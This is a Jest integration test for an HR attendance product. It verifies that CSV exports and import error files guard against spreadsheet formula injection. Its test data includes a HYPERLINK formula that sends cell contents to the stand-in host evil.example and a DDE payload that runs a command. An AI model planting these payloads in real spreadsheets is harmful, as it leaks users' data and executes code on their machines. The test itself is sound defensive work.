/**
 * CSV formula injection (OWASP): every CSV the product writes (attendance export, import error files; the
 * template goes through the same upstream toCsv) writes a cell a spreadsheet would run as a formula with a leading single quote, in double quotes;
 * plain numbers such as -5 stay numbers; importing our own file back gives the original values.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { graphql } from '../generated';
import { dataOf, download, gql, gqlUpload, itFull, loginAs, startStack, type Stack } from '../support/stack';

let stack: Stack;
let hr: string;
beforeAll(async () => {
  stack = await startStack();
  hr = await loginAs(stack, 'hr');
});
afterAll(() => stack.close());

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)';
/** How each must appear in the file: quoted, inner quotes doubled, after a single quote. */
const GUARDED = ['"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"', `"'${CMD}"`, `"'${SUM}"`];

const IMPORT = graphql(`
  mutation CsvImport($family: AttendanceFamily!, $month: String!, $file: Upload!) {
    importAttendance(family: $family, month: $month, file: $file) {
      ok
      errorCount
      errorFile {
        url
      }
    }
  }
`);

async function importCsv(csv: string): Promise<{ ok: boolean; errorCount: number; errorFile: { url: string } | null }> {
  const res = await gqlUpload(stack, IMPORT, { family: 'AGENTS', month: '2022-09' }, { file: { name: 'attendance.csv', type: 'text/csv', content: csv } }, hr);
  return dataOf(res).importAttendance;
}

const downloaded = async (url: string) => (await download(stack, url, hr)).text();

describe('CSV formula injection', () => {
  it('guards names in the attendance export', async () => {
    for (const [i, name] of [HYPERLINK, CMD, SUM].entries()) {
      const res = await gql(
        stack,
        graphql(`
          mutation CsvAddEmployee($input: EmployeeInput!) {
            addEmployee(input: $input) {
              id
            }
          }
        `),
        {
          input: {
            name,
            resId: `EVIL-${i}`,
            email: `evil${i}@demo.hr`,
            departmentId: '2',
            teamId: '1',
            managerId: '8',
            role: 0,
            roleTitle: 'Customer Support Agent',
            targetHoursPerDay: 8,
            dateJoined: '2022-01-01',
            hourlyOrMonthly: 'hourly',
            hourlyRate: 5,
          },
        },
        hr,
      );
      expect(res.errors).toBeUndefined();
    }
    const link = await gql(
      stack,
      graphql(`
        query CsvAttendanceExport {
          attendanceExport(family: AGENTS, month: "09-2022") {
            url
          }
        }
      `),
      {},
      hr,
    );
    const csv = await downloaded(dataOf(link).attendanceExport.url);
    for (const guarded of GUARDED) expect(csv).toContain(`EVIL-${GUARDED.indexOf(guarded)},${guarded},`);
    for (const raw of [HYPERLINK, CMD, SUM]) expect(csv).not.toMatch(new RegExp(`(^|,)${raw.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`, 'm'));
  });

  // The error file is served through the stand-in's file store, an extension (GET /files/{id}/download).
  itFull('guards the import error file, and importing that file back gives the same values', async () => {
    const rows = [HYPERLINK, CMD, SUM].map((resId) => `"${resId.replace(/"/g, '""')}",2022-09-01,present`);
    const first = await importCsv(`user_res_id,date,status\n${rows.join('\n')}\nRES-0010,2022-09-02,-5\n`);
    expect(first).toMatchObject({ ok: false, errorCount: 4 });
    const errors = await downloaded(first.errorFile!.url);
    for (const guarded of GUARDED) expect(errors).toContain(`,${guarded},2022-09-01,present,`);
    expect(errors).toContain('4,RES-0010,2022-09-02,-5,');

    // The error file, fixed by nobody and uploaded again, names the same values with the same messages.
    const again = await importCsv(errors);
    expect(again).toMatchObject({ ok: false, errorCount: 4 });
    expect(await downloaded(again.errorFile!.url)).toBe(errors);
  });
});
